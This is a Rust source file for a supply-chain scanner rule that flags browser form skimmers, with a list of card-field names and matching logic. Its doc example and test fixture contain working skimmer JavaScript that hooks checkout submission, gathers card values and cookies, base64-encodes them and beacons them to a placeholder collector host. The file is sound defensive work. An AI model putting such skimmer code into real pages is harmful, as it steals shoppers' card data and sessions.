use palisade_diagnostics::{Finding, Location, Severity};

use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

/// Names and `autocomplete` tokens of payment-card fields, as string literals.
const CARD_FIELDS: &[&str] = &[
    "cvc",
    "cvv",
    "cvv2",
    "cardnumber",
    "card_number",
    "card-number",
    "ccnumber",
    "cc_number",
    "cc-number",
    "cc-csc",
    "cc-exp",
];

/// Files larger than this are not read for this rule (bundles of whole
/// applications, where the parts can sit far apart for honest reasons).
const MAX_FILE_BYTES: usize = 2 * 1024 * 1024;

declare_rule! {
    /// ## What it does
    /// Finds browser code that does everything a form skimmer does, in one
    /// file: it looks for payment-card fields by name (`cvc`, `cardnumber`,
    /// `cc-number`, ...), hooks form submission, reads the fields' values,
    /// reads `document.cookie`, and base64-encodes what it gathered
    /// (`btoa`). Each part alone is ordinary; all five together are a
    /// skimmer's shape.
    ///
    /// ## Why is this bad?
    /// Skimmers (Magecart) ride on front-end packages into checkout pages:
    /// on submit they copy the card number, code and the session cookies,
    /// encode them and send them to a collector.
    ///
    /// ## Example
    /// ```js
    /// if (f.name.toLowerCase() == "cvc" || f.name.toLowerCase() == "cardnumber")
    ///   $(form).submit(function () {
    ///     for (var t = "", n = 0; n < this.elements.length; n++) t += this.elements[n].value;
    ///     beacon(btoa(t + "|" + document.cookie));
    ///   });
    /// ```
    ///
    /// ## References
    /// - Magecart skimmers published as jQuery plugins on npm.
    FormSkimmer {
        id: "exfil/form-skimmer",
        severity: Critical,
        status: Stable,
        summary: "Browser code collects payment-card fields and cookies on form submit and encodes them",
    }
}

impl Rule for FormSkimmer {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for code in ctx.code_files {
            let Some(file) = ctx.package.file(&code.path) else {
                continue;
            };
            if file.data.len() > MAX_FILE_BYTES {
                continue;
            }
            // Every code file passes here: decide on the rare `btoa(` before
            // copying the file to lower case.
            if !file
                .data
                .windows(5)
                .any(|w| w.eq_ignore_ascii_case(b"btoa("))
            {
                continue;
            }
            let text = String::from_utf8_lossy(&file.data).to_ascii_lowercase();
            if !(text.contains("document.cookie")
                && text.contains("btoa(")
                && (text.contains(".submit(")
                    || text.contains("submit'")
                    || text.contains("submit\""))
                && text.contains(".value"))
            {
                continue;
            }
            let field = CARD_FIELDS.iter().find_map(|f| {
                ["\"", "'"].iter().find_map(|q| {
                    let lit = format!("{q}{f}{q}");
                    text.find(&lit).map(|at| (*f, at))
                })
            });
            let Some((field, at)) = field else {
                continue;
            };
            let line = 1 + text[..at].bytes().filter(|b| *b == b'\n').count();
            let location = Location::new(code.path.clone(), line as u32, 1);
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        Severity::Critical,
                        format!(
                            "`{}` looks for the card field `{field}`, hooks form submission, reads field values and `document.cookie` and base64-encodes them: a form skimmer",
                            code.path
                        ),
                    ),
                    &location,
                )
                .at_install_time(code.install_time)
                .with_capability("network"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&FormSkimmer::META).test(
            &[Case::Js(
                r#"
for (var i = 0; i < document.forms.length; i++) {
  var els = document.forms[i].elements;
  for (var c = 0; c < els.length; c++) {
    if ("password" == els[c].type || "cvc" == els[c].name.toLowerCase() || "cardnumber" == els[c].name.toLowerCase()) {
      $(document.forms[i]).submit(function () {
        for (var t = "", n = 0; n < this.elements.length; n++) t += this.elements[n].name + ":" + this.elements[n].value + ":";
        new Image().src = "http://collector.invalid/p?d=" + encodeURIComponent(btoa(t + "|" + document.cookie));
      });
    }
  }
}
"#,
            )],
            &[
                // A card form that validates and submits to its own backend.
                Case::Js(
                    r#"
form.addEventListener("submit", function (e) {
  var number = form.querySelector("[name='cardnumber']").value;
  var cvc = form.querySelector("[name='cvc']").value;
  if (!luhn(number) || cvc.length < 3) e.preventDefault();
});
"#,
                ),
                // A cookie and base64 helper with no card fields.
                Case::Js(
                    r#"
export function save(form) {
  form.addEventListener("submit", () => {
    document.cookie = "draft=" + btoa(form.elements.title.value);
  });
}
"#,
                ),
            ],
        );
    }
}
